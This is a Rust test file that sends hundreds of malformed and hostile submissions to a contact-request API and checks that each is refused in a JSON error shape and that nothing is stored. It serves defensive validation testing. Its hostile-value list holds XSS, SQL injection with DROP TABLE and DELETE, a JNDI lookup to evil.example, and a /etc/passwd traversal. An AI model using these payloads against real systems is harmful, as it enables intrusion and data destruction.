//! Hundreds of malformed and hostile submissions: each gets a 4xx in the shared JSON error shape, nothing
//! is stored, and the server keeps answering.

use axum::http::StatusCode;
use serde_json::{Value, json};

use crate::support::{TestApp, error_body, valid_form};

const JSON: Option<&str> = Some("application/json");

/// One hostile submission: its content type, raw body, the status it must get, and what it tries.
struct Row {
    content_type: Option<&'static str>,
    body: Vec<u8>,
    status: StatusCode,
    what: String,
}

fn row(body: impl Into<Vec<u8>>, status: StatusCode, what: impl Into<String>) -> Row {
    Row {
        content_type: JSON,
        body: body.into(),
        status,
        what: what.into(),
    }
}

/// The valid form with `field` set to `value`.
fn with(field: &str, value: Value) -> Vec<u8> {
    let mut form = valid_form();
    form[field] = value;
    form.to_string().into_bytes()
}

const STRING_FIELDS: [&str; 6] = [
    "request_reason",
    "preferred_channel",
    "preferred_phone",
    "name",
    "email",
    "request_description",
];

fn table() -> Vec<Row> {
    let mut rows = Vec::new();
    let bad = StatusCode::BAD_REQUEST;
    let invalid = StatusCode::UNPROCESSABLE_ENTITY;

    // Wrong types, numbers where strings belong, and strings where the boolean belongs.
    let wrong_types = [
        json!(42),
        json!(-1.5),
        json!(1e308),
        json!(true),
        json!([]),
        json!(["Billing"]),
        json!({}),
        json!({"$gt": ""}),
    ];
    for field in STRING_FIELDS {
        for value in &wrong_types {
            rows.push(row(
                with(field, value.clone()),
                bad,
                format!("{field} = {value}"),
            ));
        }
    }
    for value in [
        json!("true"),
        json!(1),
        json!(0),
        json!("yes"),
        json!([]),
        json!({}),
    ] {
        rows.push(row(
            with("is_callback", value.clone()),
            bad,
            format!("is_callback = {value}"),
        ));
    }

    // Values no rule accepts: script tags, SQL, and other junk in fields with a fixed form.
    let hostile = [
        "<script>alert(1)</script>",
        "'; DROP TABLE contact_requests; --",
        "\" OR \"1\"=\"1",
        "Robert'); DELETE FROM contact_requests;--",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "../../etc/passwd",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "%00",
    ];
    for value in hostile {
        for field in [
            "request_reason",
            "preferred_channel",
            "preferred_phone",
            "email",
        ] {
            rows.push(row(
                with(field, json!(value)),
                invalid,
                format!("{field} = {value:?}"),
            ));
        }
    }

    // Control characters, where the rules refuse them.
    for c in ['\0', '\u{7}', '\u{8}', '\u{1b}', '\u{7f}', '\u{c}', '\u{b}'] {
        for field in ["name", "request_description"] {
            let value = format!("before{c}after");
            rows.push(row(
                with(field, json!(value)),
                invalid,
                format!("{field} with U+{:04X}", c as u32),
            ));
        }
        // Whitespace controls (form feed, vertical tab) only separate digits, like spaces.
        if !c.is_whitespace() {
            rows.push(row(
                with("preferred_phone", json!(format!("+44 20{c}7946 0958"))),
                invalid,
                format!("phone with U+{:04X}", c as u32),
            ));
        }
    }
    rows.push(row(
        with("name", json!("Ada\nLovelace")),
        invalid,
        "a two-line name",
    ));

    // Huge strings: over the field's limit (422), or over the body limit (413).
    for (field, len) in [
        ("name", 121),
        ("name", 5_000),
        ("request_description", 4_001),
        ("request_description", 12_000),
        ("preferred_phone", 5_000),
        ("email", 5_000),
        ("request_reason", 5_000),
    ] {
        rows.push(row(
            with(field, json!("9".repeat(len))),
            invalid,
            format!("{field} of {len} characters"),
        ));
    }
    for field in STRING_FIELDS {
        rows.push(row(
            with(field, json!("x".repeat(20_000))),
            StatusCode::PAYLOAD_TOO_LARGE,
            format!("{field} over the body limit"),
        ));
    }
    rows.push(row(
        vec![b' '; 17 * 1024],
        StatusCode::PAYLOAD_TOO_LARGE,
        "17 KB of spaces",
    ));

    // Invalid UTF-8 inside strings and around the document.
    for bytes in [
        &b"\xff"[..],
        b"\xc3\x28",
        b"\xe2\x82",
        b"\xf0\x28\x8c\xbc",
        b"\xed\xa0\x80",
        b"\xc0\xaf",
    ] {
        for field in ["name", "request_description", "preferred_phone"] {
            let mut body = format!(
                r#"{{"request_reason":"Billing","preferred_phone":"+442079460958","{field}":""#
            )
            .into_bytes();
            if field == "preferred_phone" {
                body = br#"{"request_reason":"Billing","preferred_phone":""#.to_vec();
            }
            body.extend_from_slice(bytes);
            body.extend_from_slice(b"\"}");
            rows.push(row(
                body,
                bad,
                format!("{field} with invalid UTF-8 {bytes:x?}"),
            ));
        }
    }
    rows.push(row(b"\xef\xbb\xbf{}".to_vec(), bad, "a byte-order mark"));
    rows.push(row(r#"{"name":"\ud800"}"#, bad, "a lone surrogate escape"));

    // Nested JSON bombs, as the body and as a field's value.
    for depth in [129, 1_000, 2_500] {
        rows.push(row(
            format!("{}{}", "[".repeat(depth), "]".repeat(depth)),
            bad,
            format!("an array nested {depth} deep"),
        ));
        let nested = format!("{}1{}", r#"{"a":"#.repeat(depth), "}".repeat(depth));
        rows.push(row(
            format!(r#"{{"request_reason":"Billing","name":{nested}}}"#),
            bad,
            format!("a name nested {depth} deep"),
        ));
    }
    let wide = format!("[{}]", vec!["[]"; 4_000].join(","));
    rows.push(row(
        format!(r#"{{"name":{wide}}}"#),
        bad,
        "a wide array as a name",
    ));

    // Bodies that are not one JSON object.
    for (body, what) in [
        ("", "an empty body"),
        ("null", "null"),
        ("\"Billing\"", "a string"),
        ("42", "a number"),
        ("true", "a boolean"),
        ("{", "an unclosed object"),
        ("{}}", "a stray brace"),
        ("{} {}", "two objects"),
        ("{\"request_reason\":\"Billing\",}", "a trailing comma"),
        ("{'request_reason':'Billing'}", "single quotes"),
        ("{request_reason:\"Billing\"}", "unquoted keys"),
        ("{\"request_reason\":\"Billing\" /* c */}", "a comment"),
        ("{\"is_callback\":NaN}", "NaN"),
        ("{\"is_callback\":Infinity}", "Infinity"),
        ("request_reason=Billing", "a form-encoded body"),
        ("<xml/>", "XML"),
    ] {
        rows.push(row(body, bad, what));
    }

    // serde reads an array as the form's fields in order: an empty one is an empty form.
    rows.push(row("[]", invalid, "an empty array"));

    // Duplicate keys, and fields the form does not have.
    for field in STRING_FIELDS {
        rows.push(row(
            format!(r#"{{"{field}":"a","{field}":"b"}}"#),
            bad,
            format!("{field} twice"),
        ));
    }
    for unknown in [
        "__proto__",
        "constructor",
        "id",
        "status",
        "seq",
        "Name",
        "owner_id",
        "phone",
        "<script>",
        "request_reason ",
    ] {
        rows.push(row(format!(r#"{{"request_reason":"Billing","preferred_phone":"+442079460958","{unknown}":"x"}}"#), bad, format!("unknown field {unknown:?}")));
    }

    // Forms that parse but break the rules.
    for (form, what) in [
        (json!({}), "an empty form"),
        (json!({"request_reason": "Billing"}), "no phone for a call"),
        (
            json!({"request_reason": "Billing", "preferred_channel": "Email"}),
            "no email for email",
        ),
        (
            json!({"request_reason": "Billing", "preferred_channel": "Text", "preferred_phone": " "}),
            "a blank mobile number",
        ),
        (
            json!({"request_reason": "billing", "preferred_phone": "+442079460958"}),
            "a reason in the wrong case",
        ),
        (
            json!({"request_reason": "Billing", "preferred_phone": "020 7946 0958"}),
            "a national number",
        ),
        (
            json!({"request_reason": "Billing", "preferred_phone": "+0 20 7946 0958"}),
            "country code 0",
        ),
        (
            json!({"request_reason": "Billing", "preferred_phone": "+1234567890123456"}),
            "sixteen digits",
        ),
        (
            json!({"request_reason": "Billing", "preferred_phone": "+44+2079460958"}),
            "two plus signs",
        ),
        (
            json!({"request_reason": "Billing", "preferred_phone": "+442079460958", "email": "a@"}),
            "half an email",
        ),
        (
            json!({"request_reason": "Billing", "preferred_phone": "+442079460958", "email": "a b@c.d"}),
            "an email with a space",
        ),
    ] {
        rows.push(row(form.to_string(), invalid, what));
    }

    // Content types other than JSON.
    let form = valid_form().to_string();
    for content_type in [
        None,
        Some("text/plain"),
        Some("text/html"),
        Some("application/x-www-form-urlencoded"),
        Some("multipart/form-data; boundary=x"),
        Some("application/xml"),
        Some("application/jsonp"),
        Some("json"),
    ] {
        rows.push(Row {
            content_type,
            body: form.clone().into_bytes(),
            status: StatusCode::UNSUPPORTED_MEDIA_TYPE,
            what: format!("content type {content_type:?}"),
        });
    }
    rows
}

#[tokio::test]
async fn every_malformed_or_hostile_submission_is_refused_in_the_error_shape_and_stores_nothing() {
    let app = TestApp::new().await;
    let rows = table();
    assert!(rows.len() >= 200, "only {} rows", rows.len());
    for row in rows {
        let response = app.post_raw(row.content_type, row.body).await;
        assert_eq!(
            response.status, row.status,
            "{}: {:?}",
            row.what, response.body
        );
        let body = error_body(&response);
        assert!(
            !body.message.is_empty(),
            "{}: a message says what to fix",
            row.what
        );
        assert_eq!(app.stored_count(), 0, "{}: nothing stored", row.what);
        assert_eq!(
            app.get("/healthz").await.status,
            StatusCode::OK,
            "{}: still healthy",
            row.what
        );
    }
    let valid = app.post_json(&valid_form()).await;
    assert_eq!(
        valid.status,
        StatusCode::CREATED,
        "and still takes a valid request"
    );
}

#[tokio::test]
async fn address_parts_that_are_not_utf8_are_refused_in_the_json_shape() {
    let app = TestApp::new().await;
    for path in ["/api/v1/sites/%FF%FE", "/api/v1/sites/%FF/callback-slots"] {
        let response = app.get(path).await;
        assert_eq!(response.status, StatusCode::BAD_REQUEST, "{path}");
        let body = error_body(&response);
        assert!(
            body.message.contains("address is not valid"),
            "{path}: {body:?}"
        );
    }
}
